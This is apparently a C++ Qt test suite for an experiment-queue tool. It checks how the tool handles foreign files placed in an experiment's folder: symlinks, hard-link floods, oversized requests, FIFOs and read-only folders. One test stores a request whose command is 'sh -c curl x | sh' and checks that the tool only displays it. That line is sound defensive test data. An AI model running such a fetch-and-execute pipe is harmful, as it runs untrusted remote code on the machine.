// SPDX-License-Identifier: MIT
// What others have put into an experiment's folder, what can't be removed from it, and what would be too large for it.
#include <linux/capability.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <atomic>
#include <filesystem>
#include <fstream>

#include <QScopeGuard>
#include <QSignalSpy>

#include "base/command_request.h"
#include "core_queue_support.h"
#include "follow/run_follower.h"
#include "ipc/file_system.h"
#include "ipc/logging.h"
#include "ipc/messages.h"
#include "ipc/printable.h"
#include "nodes/known_places.h"
#include "queue/control_seat.h"
#include "queue/experiment_runner.h"
#include "queue/owned_experiment.h"
#include "queue/queue_origin.h"
#include "queue/slurm/slurm_experiment.h"
#include "store/run_notes.h"
#include "store/run_store.h"
#include "tests/qt_test.h"

using namespace lockstep;
using namespace lockstep::test;
using Kind = QueueRequest::Kind;

namespace {

QueueRequest request(Kind kind, int entry = -1) {
    QueueRequest out;
    out.kind = kind;
    out.entry = entry;
    out.by = "the test";
    return out;
}

/// A short text that names 50,501 nodes and devices.
RunConfig onManyDevices() {
    RunConfig config;
    config.method = Method::Ddp;
    config.nodes.resize(500);
    for (NodePlace &node : config.nodes)
        node.devices.assign(100, "0");
    return config;
}

std::string put(const Experiment &experiment, const char *name, const std::string &text) {
    const std::string folder = experimentFolder(experiment.id).requests(), path = folder + "/" + name;
    (void)realFileSystem().makeFolders(folder);
    (void)realFileSystem().writeAtomically(path, text);
    return path;
}

/// While it lives, nothing can be made or removed in a folder, by root neither: as on a disk that is mounted read-only.
class ReadOnly {
public:
    explicit ReadOnly(std::string folder) : m_folder(std::move(folder)) {
        ::syscall(SYS_capget, &m_header, m_before);
        __user_cap_data_struct now[2] = {m_before[0], m_before[1]};
        now[0].effective &= ~(1U << CAP_DAC_OVERRIDE);
        ::syscall(SYS_capset, &m_header, now);
        ::chmod(m_folder.c_str(), 0500);
    }
    ~ReadOnly() {
        ::chmod(m_folder.c_str(), 0700);
        ::syscall(SYS_capset, &m_header, m_before);
    }
    ReadOnly(const ReadOnly &) = delete;
    ReadOnly &operator=(const ReadOnly &) = delete;

private:
    std::string m_folder;
    __user_cap_header_struct m_header{_LINUX_CAPABILITY_VERSION_3, 0};
    __user_cap_data_struct m_before[2] = {};
};

/// Counts the lines that this process logs.
class Lines {
public:
    Lines() {
        LoggingOptions options;
        options.toStderr = false;
        options.sink = [this](LogLevel, std::string_view) { ++m_count; };
        setUpLogging(options);
    }
    ~Lines() { setUpLogging({}); }
    Lines(const Lines &) = delete;
    Lines &operator=(const Lines &) = delete;
    [[nodiscard]] int count() const { return m_count; }

private:
    std::atomic<int> m_count = 0;
};

} // namespace

class ForeignFilesTest : public QObject {
    Q_OBJECT
    std::unique_ptr<Home> m_home;

private Q_SLOTS:
    void init() { m_home = std::make_unique<Home>(); }
    void cleanup() { m_home.reset(); }

    void aLinkInThePlaceOfTheRequestsHasNone_data() {
        QTest::addColumn<bool>("whole");
        QTest::newRow("their folder") << false;
        QTest::newRow("the experiment's folder") << true;
    }
    void aLinkInThePlaceOfTheRequestsHasNone() {
        QFETCH(bool, whole);
        const Experiment experiment = ofOneRun(EntryState::Queued);
        const ExperimentFolder folder = experimentFolder(experiment.id);
        const QTemporaryDir elsewhere;
        const std::string target = elsewhere.path().toStdString(), files = target + (whole ? "/requests" : "");
        QVERIFY(realFileSystem().makeFolders(files).has_value());
        write(files + "/package.json", "{\"name\":\"somebody's\"}");
        write(files + "/1.json", toJson(request(Kind::Stop)));
        if (whole)
            std::filesystem::rename(folder.path, folder.path + ".away");
        QCOMPARE(::symlink(target.c_str(), (whole ? folder.path : folder.requests()).c_str()), 0);
        QVERIFY(pendingRequests(folder).empty());
        QVERIFY(!forgetRequest(folder, "1.json"));
        QVERIFY(isThere(files + "/package.json") && isThere(files + "/1.json"));
    }

    void ofVeryManyOrLargeRequestsTheFirstAreTaken_data() {
        QTest::addColumn<int>("files");
        QTest::addColumn<int>("bytes");
        QTest::addColumn<bool>("more");
        QTest::newRow("as many as a person's script makes") << 900 << 4096 << false;
        QTest::newRow("many") << 1500 << 10 << true;
        QTest::newRow("links to a large one") << 100 << 1'000'000 << true;
    }
    void ofVeryManyOrLargeRequestsTheFirstAreTaken() {
        QFETCH(int, files);
        QFETCH(int, bytes);
        QFETCH(bool, more);
        const Experiment experiment = ofOneRun(EntryState::Queued);
        const ExperimentFolder folder = experimentFolder(experiment.id);
        QueueRequest pause = request(Kind::Pause);
        pause.by.assign(std::size_t(bytes), 'x');
        const std::string one = put(experiment, "0000.json", toJson(pause));
        for (int i = 1; i < files; ++i)
            QCOMPARE(::link(one.c_str(), (folder.requests() + "/" + std::to_string(10'000 + i) + ".json").c_str()), 0);
        bool left = false;
        const auto pending = pendingRequests(folder, nullptr, &left);
        QCOMPARE(left, more);
        QVERIFY(!pending.empty() && (more ? pending.size() < std::size_t(files) && pending.size() <= 1000
                                          : pending.size() == std::size_t(files)));
        QVERIFY(std::int64_t(pending.size()) * bytes < 20'000'000);
        if (!more)
            return;
        const Result<void> asked = requestQueue(experiment.id, request(Kind::Pause));
        QVERIFY2(!asked && asked.error().what.find("wait than are taken at once") != std::string::npos,
                 asked ? "" : asked.error().what.c_str());
        if (files > 1000)
            return; // each that is carried out is synced to the disk
        Result<OwnedExperiment> owner = OwnedExperiment::own(experiment.id); // takes them in turns
        QVERIFY(owner.has_value());
        QVERIFY(isThere(folder.requests() + "/" + std::to_string(10'000 + files - 1) + ".json"));
        QVERIFY(!isThere(one));
    }

    void requestsThatNameVeryManyNodesAreTakenInTurns() {
        const Experiment experiment = ofOneRun(EntryState::Queued);
        const ExperimentFolder folder = experimentFolder(experiment.id);
        QueueRequest more = request(Kind::Add);
        more.added.emplace();
        more.added->name = "b";
        more.added->config = onManyDevices();
        const std::string one = put(experiment, "0000.json", toJson(more));
        for (int i = 1; i < 25; ++i)
            QCOMPARE(::link(one.c_str(), (folder.requests() + "/" + std::to_string(10'000 + i) + ".json").c_str()), 0);
        bool left = false;
        QCOMPARE(pendingRequests(folder, nullptr, &left).size(), std::size_t(12));
        QVERIFY(left);
        const Result<void> asked = requestQueue(experiment.id, request(Kind::Pause));
        QVERIFY2(!asked && asked.error().what.find("or 600000 nodes and devices") != std::string::npos,
                 asked ? "" : asked.error().what.c_str());
    }

    void aQueueSaysWhichRequestsWaitAndWhatTheyAdd() {
        if (!QFile::exists(bin + QStringLiteral("/lockstepctl")))
            QSKIP("lockstepctl is not built");
        const Experiment experiment = ofOneRun(EntryState::Queued);
        QueueRequest more = request(Kind::Add);
        more.added.emplace();
        more.added->name = "harmless\n";
        more.added->command = {"sh", "-c", "curl x | sh"};
        const std::string waits = put(experiment, "1.json", toJson(more)),
                          torn = put(experiment, "2.json", "no request");
        const QString id = QString::fromStdString(experiment.id);
        const Answer said = ctl({QStringLiteral("queue"), id});
        QVERIFY2(said.out.contains("1 request waits") && said.out.contains("add: 1 run of \"harmless") &&
                     said.out.contains("\"sh -c curl x | sh\""),
                 said.out.constData());
        QVERIFY(ctl({QStringLiteral("queue"), id, QStringLiteral("--json")}).out.contains("curl x | sh"));
        QVERIFY(isThere(waits) && isThere(torn)); // who only looks removes nothing
    }

    void whatCantBeRemovedIsRefusedOnce() {
        const Experiment experiment = ofOneRun(EntryState::Queued);
        const std::string refused = put(experiment, "2.json", toJson(request(Kind::Skip, 99)));
        const std::string unreadable = put(experiment, "1.json", "no request");
        Result<OwnedExperiment> owner = fail(Error::failed("not yet"));
        const Lines lines;
        {
            const ReadOnly disk(experimentFolder(experiment.id).requests());
            owner = OwnedExperiment::own(experiment.id);
            QVERIFY(owner.has_value());
            for (int i = 0; i < 3; ++i)
                QVERIFY(owner->requests().empty());
            QVERIFY(isThere(refused) && isThere(unreadable));
            QCOMPARE(lines.count(), 2); // one each
        }
        QVERIFY(owner->requests().empty());
        QVERIFY(!isThere(refused) && !isThere(unreadable));
    }

    void anOwnerEndsAlthoughARefusedRequestStays() {
        const Experiment experiment = ofOneRun(EntryState::Done);
        ExperimentRunner runner;
        QVERIFY(runner.own(experiment.id).has_value());
        const std::string refused = put(experiment, "1.json", toJson(request(Kind::Skip, 99)));
        const ReadOnly disk(experimentFolder(experiment.id).requests());
        QSignalSpy finished(&runner, &ExperimentRunner::finished);
        runner.start();
        QTRY_COMPARE(finished.count(), 1);
        QCOMPARE(finished[0][0].toInt(), 0);
        QVERIFY(isThere(refused));
    }

    void slurmsWatcherPassesOverWhatItCantRemove() {
        const Experiment experiment = ofOneRun(EntryState::Queued);
        QVERIFY(writeSlurmRecord(experiment.id, SlurmRecord{"12", {0}, {makeRunId()}}).has_value());
        put(experiment, "1.json", toJson(request(Kind::Skip, 0)));
        const QTemporaryDir programs;
        const QString squeue = programs.filePath(QStringLiteral("squeue"));
        write(squeue.toStdString(), "#!/bin/sh\necho '12|12|12|N/A|PENDING|n/a|N/A|10|main|Resources'\n");
        QVERIFY(QFile::setPermissions(squeue, QFile::ReadOwner | QFile::ExeOwner));
        const QByteArray path = qgetenv("PATH");
        qputenv("PATH", programs.path().toUtf8() + ':' + path);
        qputenv("LOCKSTEP_SQUEUE_S", "0.1");
        const ReadOnly disk(experimentFolder(experiment.id).requests());
        const Lines lines;
        {
            SlurmWatch watch;
            QVERIFY(watch.own(experiment.id).has_value());
            watch.start();
            QTRY_COMPARE(lines.count(), 1);
            QTest::qWait(500);
        }
        qputenv("PATH", path);
        qunsetenv("LOCKSTEP_SQUEUE_S");
        QCOMPARE(lines.count(), 1);
    }

    void aDocumentOfManyNamesIsReadOnceAndForTheNameThatItSays() {
        const Experiment experiment = ofOneRun(EntryState::Done);
        const std::string file = experimentFolder(experiment.id).json();
        const auto linked = [&] {
            const std::string id = makeRunId();
            (void)realFileSystem().makeFolders(experimentFolder(id).path);
            std::filesystem::create_hard_link(file, experimentFolder(id).json());
            return id;
        };
        const std::string first = linked(), second = linked();
        const auto says = [](const Result<Experiment> &read, const std::string &words) {
            return !read && read.error().message().find(words) != std::string::npos;
        };
        const std::string isAnother = "says that it is experiment \"" + experiment.id + "\"";
        ExperimentReader reader;
        QVERIFY(says(reader.read(first), isAnother));
        QVERIFY(reader.read(experiment.id).has_value());
        const auto time = std::filesystem::last_write_time(file);
        std::ofstream(file, std::ios::binary | std::ios::in | std::ios::out) << "no document";
        std::filesystem::last_write_time(file, time);
        QVERIFY(says(reader.read(second), isAnother));
        QVERIFY(says(ExperimentReader().read(second), "is damaged"));
        QVERIFY(says(readExperiment(experiment.id), "is damaged"));
    }

    void anExperimentThatNobodyCouldReadIsNotWritten() {
        Experiment experiment = ofOneRun(EntryState::Queued);
        experiment.pausedBy = "me";
        const std::string before = realFileSystem().readAll(experimentFolder(experiment.id).json()).value_or("");
        experiment.title.assign(largestDocument - toJson(experiment).size() - 20, 'x');
        Experiment larger = experiment;
        larger.title.append(100, 'x');
        const Result<void> refused = writeExperiment(larger);
        QVERIFY(!refused && refused.error().kind == ErrorKind::BadArgument);
        QCOMPARE(realFileSystem().readAll(experimentFolder(experiment.id).json()).value_or(""), before);

        const Result<void> repeated = [&] {
            QueueRequest round = request(Kind::Repeat);
            round.rounds = 1;
            return apply(round, experiment);
        }();
        QVERIFY(!repeated && repeated.error().kind == ErrorKind::BadArgument);
        QCOMPARE(experiment.entries.size(), std::size_t(1));

        Result<OwnedExperiment> owner = OwnedExperiment::own(experiment.id);
        QVERIFY(owner.has_value());
        owner->experiment() = experiment;
        const std::string asked = put(experiment, "1.json", toJson(request(Kind::Pause))); // by a longer name
        const auto pending = owner->requests();
        QCOMPARE(pending.size(), std::size_t(1));
        QVERIFY(owner->carryOut(pending[0]).has_value());
        QVERIFY(!isThere(asked));
        QCOMPARE(owner->experiment().pausedBy, std::string("me"));
    }

    void anExperimentThatNamesMoreNodesThanItCanIsNeitherReadNorWrittenNorMade() {
        Experiment experiment = ofOneRun(EntryState::Queued);
        experiment.entries[0].planned.config = onManyDevices();
        while (experiment.entries.size() < 11) {
            experiment.entries.push_back(experiment.entries[0]);
            experiment.entries.back().planned.name += std::to_string(experiment.entries.size());
        }
        const Result<Experiment> read = experimentFromJson(toJson(experiment));
        QVERIFY2(read.has_value(), read ? "" : read.error().message().c_str());
        QCOMPARE(read->entries.back().planned.config, experiment.entries.back().planned.config);
        QVERIFY(writeExperiment(experiment).has_value());

        QueueRequest round = request(Kind::Repeat);
        round.rounds = 1;
        const Result<void> repeated = apply(round, experiment);
        QVERIFY2(!repeated &&
                     repeated.error().what.starts_with("with 11 more, the runs of experiment " + experiment.id +
                                                       " name 1111022 nodes and devices, more than the 600000"),
                 repeated ? "" : repeated.error().what.c_str());
        QueueRequest more = request(Kind::Add);
        more.added.emplace();
        more.added->name = "b";
        more.added->repeats = 100;
        more.added->config.method = Method::Ddp;
        more.added->config.batchSize = 500;
        takeDevicesOfAll(more.added->config, 500);
        const Result<void> added = apply(more, experiment);
        QVERIFY2(!added && added.error().what.starts_with("with 100 more, the runs of experiment " + experiment.id +
                                                          " name 605511 nodes and devices"),
                 added ? "" : added.error().what.c_str());
        QCOMPARE(experiment.entries.size(), std::size_t(11));

        experiment.entries.push_back(experiment.entries[0]);
        const Result<void> written = writeExperiment(experiment);
        QVERIFY(!written && written.error().kind == ErrorKind::BadArgument);
        const Result<Experiment> refused = experimentFromJson(toJson(experiment));
        QVERIFY2(!refused &&
                     refused.error().what.find("its first 12 runs name 606012 nodes and devices") != std::string::npos,
                 refused ? "" : refused.error().message().c_str());
    }

    void aRunIsMovedToNoMoreDevicesThanItHas() {
        Experiment experiment = ofOneRun(EntryState::Queued);
        ExperimentEntry &entry = experiment.entries[0];
        entry.planned.config.devices = {"0", "1"};
        entry.placed = entry.planned.config;
        entry.placed->devices = {"2", "3"};
        const Result<Experiment> moved = experimentFromJson(toJson(experiment));
        QVERIFY2(moved && moved->entries[0].placed == entry.placed, moved ? "" : moved.error().message().c_str());
        entry.placed->devices = {"2", "3", "4"};
        const Result<Experiment> more = experimentFromJson(toJson(experiment));
        QVERIFY(!more && more.error().what.find("a run was moved to more devices than it has") != std::string::npos);
        entry.planned.config = onManyDevices(); // never moved: free devices of other nodes are not known
        entry.placed = entry.planned.config;
        const Result<Experiment> onNodes = experimentFromJson(toJson(experiment));
        QVERIFY2(onNodes && !onNodes->entries[0].placed, onNodes ? "" : onNodes.error().message().c_str());
    }

    void requestsThatWaitMakeTheQueueNoLongerThanItCanBeRead() {
        const Experiment experiment = ofOneRun(EntryState::Queued);
        const auto adds = [&](const char *file, const char *name, std::size_t bytes, int repeats) {
            QueueRequest more = request(Kind::Add);
            more.added.emplace();
            more.added->name = name;
            more.added->repeats = repeats;
            more.added->command = {std::string(bytes, 'x')};
            return put(experiment, file, toJson(more));
        };
        const std::string waiting[] = {adds("1.json", "large", 600'000, 100), adds("2.json", "too large", 100'000, 100),
                                       adds("3.json", "small", 10, 1)};
        const Result<void> asked = requestQueue(experiment.id, request(Kind::Pause));
        QVERIFY2(asked.has_value(), asked ? "" : asked.error().message().c_str());
        for (const std::string &file : waiting)
            QVERIFY(!isThere(file));
        const Experiment after = read(experiment.id);
        QCOMPARE(after.pausedBy, std::string("the test"));
        QCOMPARE(after.entries.size(), std::size_t(102));
        QCOMPARE(after.entries[1].planned.name, std::string("large"));
        QCOMPARE(after.entries[101].planned.name, std::string("small"));
    }

    void whatManyRequestsAddIsCountedWithoutMakingTheDocumentAgain() {
        Experiment experiment = ofOneRun(EntryState::Queued);
        DocumentRoom room(experiment);
        for (int i = 0; i < 200; ++i) {
            QueueRequest more = request(i % 10 == 9 ? Kind::Repeat : Kind::Add);
            more.rounds = 2;
            if (more.kind == Kind::Add) {
                more.added.emplace();
                more.added->name = "same";
                more.added->repeats = 1 + i % 3;
                more.added->command = {"a", "b" + std::to_string(i)};
            }
            const Result<void> applied = apply(more, experiment, &room);
            QVERIFY2(applied.has_value(), applied ? "" : applied.error().message().c_str());
        }
        const std::size_t bytes = toJson(experiment).size();
        QVERIFY2(room.bytes() >= bytes && room.bytes() < bytes + bytes / 10,
                 std::to_string(room.bytes() - bytes).c_str());

        const std::size_t before = experiment.entries.size();
        QueueRequest more = request(Kind::Add);
        more.added.emplace();
        more.added->name = "large";
        more.added->repeats = 100;
        more.added->command = {std::string(largestDocument / 100, 'x')};
        const Result<void> refused = apply(more, experiment, &room);
        QVERIFY(!refused && refused.error().what.starts_with("experiment " + experiment.id + " would take about"));
        more.added->repeats = 10;
        QVERIFY(apply(more, experiment, &room).has_value());
        QueueRequest round = request(Kind::Repeat);
        round.rounds = 70;
        const Result<void> rounds = apply(round, experiment, &room);
        QVERIFY(!rounds && rounds.error().what.starts_with("experiment " + experiment.id + " would take about"));
        QCOMPARE(experiment.entries.size(), before + 10);
    }

    void theNoteOfAnAddedRunIsAsShortAsAPersons() {
        Experiment experiment = ofOneRun(EntryState::Queued);
        QueueRequest more = request(Kind::Add);
        more.added.emplace();
        more.added->name = "b";
        more.added->config.epochs = 7;
        more.added->note.assign(largestNotes + 1, 'x');
        const Result<void> refused = apply(more, experiment);
        QVERIFY(!refused && refused.error().what.starts_with("the note of b has 65537 bytes"));
        more.added->note.pop_back();
        const Result<void> added = apply(more, experiment);
        QVERIFY2(added.has_value(), added ? "" : added.error().message().c_str());
    }

    void endlessTextsOfAnExperimentAreCut() {
        const std::string kept(longestText - 1, 'x'), endless = kept + "é and so on";
        Experiment experiment = ofOneRun(EntryState::Failed);
        experiment.title = experiment.pausedBy = experiment.recipe.title = endless;
        experiment.recipe.notes = {endless};
        ExperimentEntry &entry = experiment.entries[0];
        entry.reason = entry.planned.notRunReason = endless;
        entry.planned.note.assign(largestNotes + 1, 'x');
        const Result<Experiment> read = experimentFromJson(toJson(experiment));
        QVERIFY2(read.has_value(), read ? "" : read.error().message().c_str());
        QCOMPARE(read->title, kept);
        QCOMPARE(read->pausedBy, kept);
        QCOMPARE(read->recipe.title, kept);
        QCOMPARE(read->recipe.notes, std::vector<std::string>{kept});
        QCOMPARE(read->entries[0].reason, kept);
        QCOMPARE(read->entries[0].planned.notRunReason, kept);
        QCOMPARE(std::uint64_t(read->entries[0].planned.note.size()), largestNotes);
    }

    void whoAsksIsNamedBrieflyByEachRunThatARequestEnds() {
        Experiment experiment = ofOneRun(EntryState::Queued);
        const std::string kept(longestAsker - 1, 'x');
        for (const Kind kind : {Kind::Pause, Kind::Stop}) {
            QueueRequest asked = request(kind);
            asked.by = kept + "é and so on";
            put(experiment, "1.json", toJson(asked));
            const auto pending = pendingRequests(experimentFolder(experiment.id));
            QCOMPARE(pending.size(), std::size_t(1));
            QVERIFY(apply(pending[0].request, experiment).has_value());
        }
        QCOMPARE(experiment.pausedBy, kept);
        QCOMPARE(experiment.entries[0].reason, "stopped by " + kept);
    }

    void anEndlessFileOfControlIsHeldByNobody() {
        const std::string id = ofOneRun(EntryState::Queued).id, kept(longestAsker - 1, 'x');
        const std::string file = experimentFolder(id).path + "/control.json";
        nlohmann::json json = {
            {"generation", 5}, {"by", kept + "é and so on"}, {"host", "elsewhere"}, {"pid", 77}, {"started", "then"}};
        write(file, json.dump());
        QCOMPARE(controlHolder(id).value_or(ControlHolder()).title(), kept + " (pid 77)");
        json["more"] = std::string(largestShortDocument, 'x');
        write(file, json.dump());
        QVERIFY(!controlHolder(id));
        const Result<ControlHolder> claimed = claimControl(id, "here");
        QVERIFY(claimed && claimed->isMe());
        QVERIFY(controlHolder(id).value_or(ControlHolder()).isMe());
    }

    void anEndlessOriginOfAQueueIsRefused() {
        const std::string id = ofOneRun(EntryState::Queued).id, file = experimentFolder(id).path + "/origin.json";
        nlohmann::json json = {{"host", "far"}, {"agent", "lockstep-agent"}, {"ctl", "lockstepctl"}};
        write(file, json.dump());
        QVERIFY(queueOriginOf(id).has_value());
        json["more"] = std::string(largestShortDocument, 'x');
        write(file, json.dump());
        const auto refused = readQueueOrigin(id);
        QVERIFY(!refused);
        const std::string why = "can't read " + file + ": it is larger than 64 KiB";
        QVERIFY2(refused.error().what.find(why) != std::string::npos, refused.error().what.c_str());
    }

    void aNumberThatDoesNotFitIsNoOther() {
        QVERIFY(queueRequestFromJson(R"({"kind":"skip","entry":2})").has_value());
        for (const char *text :
             {R"({"kind":"skip","entry":99999999999})", R"({"kind":"move","entry":1,"to":4294967296})",
              R"({"kind":"repeat","rounds":4294967297})", R"({"kind":"stop","generation":-1})"})
            QVERIFY2(!queueRequestFromJson(text), text);
    }

    void anOwnersOutputGoesIntoAFileOnly_data() {
        QTest::addColumn<bool>("link");
        QTest::addColumn<bool>("slurm");
        for (const bool link : {false, true})
            for (const bool slurm : {false, true})
                QTest::addRow("%s, %s", link ? "a link" : "a pipe", slurm ? "Slurm's" : "its own") << link << slurm;
    }
    void anOwnersOutputGoesIntoAFileOnly() {
        if (!QFile::exists(bin + QStringLiteral("/lockstepctl")))
            QSKIP("lockstepctl is not built");
        QFETCH(bool, link);
        QFETCH(bool, slurm);
        const Experiment experiment = ofOneRun(EntryState::Queued);
        if (slurm)
            QVERIFY(writeSlurmRecord(experiment.id, SlurmRecord{"12", {0}, {makeRunId()}}).has_value());
        const QTemporaryDir elsewhere;
        const std::string console = experimentFolder(experiment.id).console(),
                          target = elsewhere.filePath(QStringLiteral("target")).toStdString();
        QCOMPARE(link ? ::symlink(target.c_str(), console.c_str()) : ::mkfifo(console.c_str(), 0600), 0);
        const QString id = QString::fromStdString(experiment.id);
        const Answer answer = ctl(
            slurm ? QStringList{QStringLiteral("slurm"), QStringLiteral("follow"), id}
                  : QStringList{QStringLiteral("run"), QStringLiteral("--experiment"), id, QStringLiteral("--detach")},
            10'000);
        QCOMPARE(answer.code, 1);
        QVERIFY2(answer.err.contains(QByteArray::fromStdString(console)) && answer.err.count('\n') == 1,
                 answer.err.constData());
        QVERIFY(!isThere(target) && !isOwned(experiment.id));
    }

    void ofManyLargeExperimentsTheListHoldsOneAtATime() {
        if (!QFile::exists(bin + QStringLiteral("/lockstepctl")))
            QSKIP("lockstepctl is not built");
        constexpr int experiments = 30, runs = 10'000; // 30 MiB each once read
        nlohmann::json runsOnly = nlohmann::json::array();
        for (int i = 0; i < runs; ++i)
            runsOnly.push_back({{"config", nlohmann::json::object()}});
        for (int i = 0; i < experiments; ++i) {
            const ExperimentFolder folder = experimentFolder(ofOneRun(EntryState::Queued).id);
            auto json = nlohmann::json::parse(realFileSystem().readAll(folder.json()).value());
            json["entries"] = runsOnly;
            write(folder.json(), json.dump());
        }
        const Answer answer = ctl({QStringLiteral("list")});
        QVERIFY2(answer.code == 0 && answer.out.count("0/10000") == experiments, answer.out.constData());
        struct rusage usage {};
        QCOMPARE(::getrusage(RUSAGE_CHILDREN, &usage), 0);
#ifndef __SANITIZE_ADDRESS__ // it keeps what was freed
        QVERIFY2(usage.ru_maxrss < 600 * 1024, qPrintable(QString::number(usage.ru_maxrss)));
#endif
    }
};

QTEST_GUILESS_MAIN(ForeignFilesTest)
#include "foreign_files_test.moc"
